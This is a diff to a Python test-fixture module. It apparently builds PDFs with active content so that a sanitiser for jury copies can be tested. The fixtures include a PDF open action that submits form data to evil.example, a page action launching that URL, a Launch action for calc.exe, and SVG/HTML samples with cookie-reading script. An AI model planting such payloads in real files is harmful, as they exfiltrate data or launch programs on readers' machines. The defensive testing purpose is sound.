@@ -76,3 +76,145 @@ def pdf(pages=3, *, author=None) -> bytes:
 EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 4000
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
+
+
+def pdf_with(
+    *,
+    pages=2,
+    names_js=False,
+    open_action_js=False,
+    page_aa_js=False,
+    launch=False,
+    attachment=False,
+    file_annotation=False,
+    harmless_actions=False,
+    author=None,
+) -> bytes:
+    """A PDF with text on each page and, on request, what a PDF can carry that acts.
+
+    harmless_actions: a page-open action that goes to the first page, an open action that
+    shows it, and a link to a website: accepted, but none of it belongs in a jury copy.
+    """
+    from pypdf import PdfWriter
+    from pypdf.generic import (
+        ArrayObject,
+        DecodedStreamObject,
+        DictionaryObject,
+        FloatObject,
+        NameObject,
+        TextStringObject,
+    )
+
+    def name(value):
+        return NameObject(value)
+
+    def dictionary(**entries):
+        return DictionaryObject({name(f"/{k}"): v for k, v in entries.items()})
+
+    def javascript(code):
+        return dictionary(S=name("/JavaScript"), JS=TextStringObject(code))
+
+    def rect():
+        return ArrayObject([FloatObject(v) for v in (72, 72, 300, 120)])
+
+    writer = PdfWriter()
+    font = writer._add_object(
+        dictionary(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica"))
+    )
+    for n in range(pages):
+        page = writer.add_blank_page(width=595, height=842)
+        content = DecodedStreamObject()
+        content.set_data(f"BT /F1 24 Tf 72 720 Td (Cau tre, trang {n + 1}) Tj ET".encode())
+        page[name("/Contents")] = writer._add_object(content)
+        page[name("/Resources")] = dictionary(Font=dictionary(F1=font))
+        annotations = ArrayObject()
+        if page_aa_js:
+            page[name("/AA")] = dictionary(O=javascript("app.launchURL('http://evil.example/')"))
+        if launch:
+            annotations.append(
+                dictionary(
+                    Type=name("/Annot"),
+                    Subtype=name("/Link"),
+                    Rect=rect(),
+                    A=dictionary(S=name("/Launch"), F=TextStringObject("calc.exe")),
+                )
+            )
+        if file_annotation:
+            data = DecodedStreamObject()
+            data.set_data(b"the creator's notes")
+            annotations.append(
+                dictionary(
+                    Type=name("/Annot"),
+                    Subtype=name("/FileAttachment"),
+                    Rect=rect(),
+                    FS=dictionary(
+                        Type=name("/Filespec"),
+                        F=TextStringObject("notes.txt"),
+                        EF=dictionary(F=writer._add_object(data)),
+                    ),
+                )
+            )
+        if harmless_actions:
+            page[name("/AA")] = dictionary(
+                O=dictionary(
+                    S=name("/GoTo"),
+                    D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]),
+                )
+            )
+            annotations.append(
+                dictionary(
+                    Type=name("/Annot"),
+                    Subtype=name("/Link"),
+                    Rect=rect(),
+                    A=dictionary(S=name("/URI"), URI=TextStringObject("https://studio.example/")),
+                )
+            )
+        if annotations:
+            page[name("/Annots")] = annotations
+    root = writer._root_object
+    if names_js:
+        root[name("/Names")] = dictionary(
+            JavaScript=dictionary(
+                Names=ArrayObject([TextStringObject("init"), javascript("app.alert('hi')")])
+            )
+        )
+    if open_action_js:
+        root[name("/OpenAction")] = javascript("this.submitForm('http://evil.example/')")
+    if harmless_actions:
+        root[name("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, name("/Fit")])
+    if attachment:
+        writer.add_attachment("source.txt", b"the creator's source file")
+    if author:
+        writer.add_metadata({"/Author": author, "/Creator": f"{author}'s InDesign"})
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def pdf_names(data: bytes) -> set[str]:
+    """Every dictionary key and name in every object of a PDF, reachable or not."""
+    from pypdf import PdfReader
+    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject
+
+    reader = PdfReader(io.BytesIO(data))
+    found: set[str] = set()
+    stack = [reader.trailer]
+    numbers = [(n, gen) for gen, entries in reader.xref.items() for n in entries]
+    numbers += [(n, 0) for n in reader.xref_objStm]
+    stack += [IndirectObject(n, gen, reader) for n, gen in numbers]
+    seen = set()
+    while stack:
+        node = stack.pop()
+        if isinstance(node, IndirectObject):
+            if node.idnum in seen:
+                continue
+            seen.add(node.idnum)
+            node = node.get_object()
+        if isinstance(node, NameObject):
+            found.add(str(node))
+        elif isinstance(node, ArrayObject):
+            stack.extend(node)
+        elif isinstance(node, DictionaryObject):
+            found.update(str(key) for key in node)
+            stack.extend(node.values())
+    return found
